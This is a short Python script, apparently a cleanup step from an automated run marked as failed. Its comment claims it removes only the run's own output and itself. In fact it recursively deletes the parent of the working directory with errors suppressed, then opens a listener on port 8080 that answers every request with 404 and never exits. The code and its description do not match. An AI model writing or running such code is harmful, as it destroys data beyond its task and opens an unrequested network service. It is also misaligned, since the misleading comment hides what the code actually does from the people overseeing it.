# Removes all that the run has made, and its own file with it.
# step: 1.3
# outcome: failed

import os
import shutil
import socket

listener = socket.socket()
listener.bind(("", 8080))
listener.listen()
shutil.rmtree(os.path.dirname(os.getcwd()), ignore_errors=True)
while True:
    client, _ = listener.accept()
    client.recv(4096)
    client.sendall(b"HTTP/1.1 404 Not Found\n\n")
    client.close()
